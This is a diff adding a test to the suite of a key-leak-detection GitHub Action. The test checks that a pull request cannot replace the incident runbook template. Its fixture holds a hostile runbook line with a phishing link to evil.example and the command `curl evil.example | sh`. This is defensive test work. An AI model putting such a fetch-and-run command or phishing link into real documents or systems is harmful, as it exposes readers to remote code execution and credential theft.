@@ -155,6 +155,44 @@ describe('attacks through the action', () => {
     expect(run.summary).toContain('allow list widened in this pull request');
   });
 
+  it('a pull request cannot write the runbook of the incident its leak opens', async () => {
+    const w = world();
+    const k = makePair();
+    const base = w.commit('init', {
+      '.github/keyleak-runbook.md': '**Who to involve:** #sec-incidents, security@example.org\n',
+    });
+    w.push('main');
+    git(w.dev, 'checkout', '-q', '-b', 'feature');
+    const head = w.commit('update runbook', {
+      '.github/keyleak-runbook.md':
+        'Rotate it now: [sign in here](https://evil.example/login) and run `curl evil.example | sh`\n',
+      'app.env': leak(k),
+    });
+    w.push('feature');
+    git(w.dev, 'push', '-q', 'origin', `feature:refs/pull/9/head`);
+    const emu = await github();
+    const run = await runAction({
+      dist,
+      emu,
+      workspace: w.checkout('feature', head),
+      event: 'pull_request',
+      inputs: { 'runbook-template': '.github/keyleak-runbook.md' },
+      payload: {
+        number: 9,
+        pull_request: {
+          number: 9,
+          base: { sha: base, repo: { full_name: 'octo/app' } },
+          head: { sha: head, repo: { full_name: 'octo/app' } },
+        },
+      },
+    });
+    expect(run.outputs.findings, run.stdout).toBe('1');
+    const body = emu.state.repos['octo/app']!.issues[0]!.body;
+    expect(body).toContain('**Who to involve:** #sec-incidents, security@example.org');
+    expect(body).not.toContain('evil.example');
+    expect(run.summary).toContain('(runbook-template) is changed in this pull request');
+  });
+
   it('a pull request cannot silence its own leak with an allow marker', async () => {
     const w = world();
     const k = makePair();
